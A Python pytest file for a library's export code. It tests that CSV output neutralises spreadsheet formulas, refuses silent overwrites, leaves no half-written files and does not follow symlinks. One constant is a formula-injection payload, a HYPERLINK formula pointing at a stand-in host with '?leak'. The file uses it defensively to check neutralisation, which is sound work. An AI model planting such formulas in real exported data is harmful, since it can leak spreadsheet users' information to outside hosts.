"""Writing files people open: spreadsheet-safe CSV, no silent overwrite, nothing half-written."""

import csv
import io

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

import gunflow
from gunflow import export
from gunflow._csv import neutralise, write_table
from gunflow._files import check_free, open_target
from gunflow.cli import main

FORMULA = '=HYPERLINK("http://example.com/?leak","click")'


def source(title: str) -> gunflow.Source:
    return gunflow.Source(id="x", kind="dataset", title=title, publisher="Me")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_quote_starting_with_equals_is_written_neutralised(tmp_path):
    ds = gunflow.load()
    statistic = ds.statistics.get("reuters-2016-01-11/us-origin-share-2009-2014")
    hostile = attrs.evolve(statistic, quote=f"{FORMULA} 70 percent")
    path = tmp_path / "stats.csv"
    export.write_csv([hostile], path)
    (row,) = csv.DictReader(path.open(encoding="utf-8", newline=""))
    assert row["quote"] == f"'{FORMULA} 70 percent"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    buffer = io.StringIO()
    export.write_csv([source(f"{start}1+2")], buffer)
    assert cells(buffer.getvalue())[1][3] == f"'{start}1+2"


def test_machine_readers_can_turn_it_off():
    buffer = io.StringIO()
    export.write_csv([source(FORMULA)], buffer, spreadsheet_safe=False)
    assert cells(buffer.getvalue())[1][3] == FORMULA


@pytest.mark.parametrize("number", ["-5", "+2.5", "-0.25", "12"])
def test_numbers_stay_numbers(number):
    assert neutralise(number) == number


@given(st.text())
def test_a_cell_is_kept_or_shown_as_text(value):
    buffer = io.StringIO()
    write_table(buffer, ["a", "b"], [{"a": value, "b": "after"}])
    (header, row) = cells(buffer.getvalue())
    assert header == ["a", "b"]
    assert row[1] == "after"
    if value[:1] in ("=", "+", "-", "@", "\t", "\r") and neutralise(value) != value:
        assert row[0] == "'" + value
    else:
        assert row[0] == value
    assert not row[0].startswith(("=", "@", "\t", "\r"))


def test_header_cells_are_neutralised_too():
    buffer = io.StringIO()
    write_table(buffer, ["=cmd"], [])
    assert cells(buffer.getvalue()) == [["'=cmd"]]


# --- no silent overwrite, nothing half-written --------------------------------------------


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "csl-json"])
def test_export_refuses_an_existing_file_without_force(tmp_path, capsys, fmt):
    target = tmp_path / "mine.out"
    target.write_text("my own work", encoding="utf-8")
    assert main(["export", "--format", fmt, "-o", str(target)]) == 2
    assert "already exists" in capsys.readouterr().err
    assert target.read_text(encoding="utf-8") == "my own work"
    assert main(["export", "--format", fmt, "-o", str(target), "--force"]) == 0
    assert target.read_text(encoding="utf-8") != "my own work"
    assert [p.name for p in tmp_path.iterdir()] == ["mine.out"]


def test_cli_csv_is_spreadsheet_safe_unless_told(tmp_path):
    mine = tmp_path / "mine.toml"
    mine.write_text(
        f"[[source]]\nid = 'mine'\nkind = 'dataset'\ntitle = '{FORMULA}'\npublisher = 'Me'\n",
        encoding="utf-8",
    )
    safe, plain = tmp_path / "safe.csv", tmp_path / "plain.csv"
    common = ["export", "--data", str(mine), "--kind", "sources", "--format", "csv"]
    assert main([*common, "-o", str(safe)]) == 0
    assert main([*common, "-o", str(plain), "--no-spreadsheet-safe"]) == 0
    titles = {
        p.name: {r["id"]: r["title"] for r in csv.DictReader(p.open(newline=""))}
        for p in (safe, plain)
    }
    assert titles["safe.csv"]["mine"] == "'" + FORMULA
    assert titles["plain.csv"]["mine"] == FORMULA


def test_the_library_refuses_too_and_overwrite_replaces(tmp_path):
    path = tmp_path / "all.jsonl"
    path.write_text("keep me", encoding="utf-8")
    with pytest.raises(gunflow.TargetExists) as caught:
        export.write_jsonl(gunflow.load().agencies, path)
    assert isinstance(caught.value, FileExistsError)
    assert str(path) in str(caught.value)
    assert path.read_text(encoding="utf-8") == "keep me"
    export.write_jsonl(gunflow.load().agencies, path, overwrite=True)
    assert gunflow.read(path).agencies == gunflow.load().agencies


def write_half(path, *, overwrite):
    with open_target(path, overwrite=overwrite) as stream:
        stream.write("half a file")
        raise RuntimeError("interrupted")


def test_an_interrupted_write_leaves_nothing_under_the_name(tmp_path):
    path = tmp_path / "out.csv"
    with pytest.raises(RuntimeError, match="interrupted"):
        write_half(path, overwrite=False)
    assert list(tmp_path.iterdir()) == []


def test_an_interrupted_replacement_keeps_the_old_file(tmp_path):
    path = tmp_path / "out.csv"
    path.write_text("the old file", encoding="utf-8")
    with pytest.raises(RuntimeError, match="interrupted"):
        write_half(path, overwrite=True)
    assert path.read_text(encoding="utf-8") == "the old file"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_a_folder_export_checks_every_file_first(tmp_path):
    (tmp_path / "b.csv").write_text("", encoding="utf-8")
    with pytest.raises(gunflow.TargetExists, match=r"b\.csv"):
        check_free([tmp_path / "a.csv", tmp_path / "b.csv"], overwrite=False)
    check_free([tmp_path / "a.csv", tmp_path / "b.csv"], overwrite=True)


def test_a_symbolic_link_in_the_way_is_not_followed(tmp_path):
    elsewhere = tmp_path / "elsewhere.txt"
    elsewhere.write_text("precious", encoding="utf-8")
    link = tmp_path / "out.jsonl"
    link.symlink_to(elsewhere)
    with pytest.raises(gunflow.TargetExists):
        export.write_jsonl([], link)
    export.write_jsonl([], link, overwrite=True)
    assert elsewhere.read_text(encoding="utf-8") == "precious"
    assert not link.is_symlink()


def test_a_file_that_cannot_be_written_is_named(tmp_path, capsys):
    missing = tmp_path / "no-such-folder" / "out.jsonl"
    assert main(["export", "-o", str(missing)]) == 2
    assert capsys.readouterr().err == f"export: cannot write {missing}: No such file or directory\n"
    assert main(["export", "-o", str(tmp_path), "--force"]) == 2
    assert capsys.readouterr().err == f"export: cannot write {tmp_path}: it is a folder\n"
    assert list(tmp_path.iterdir()) == []
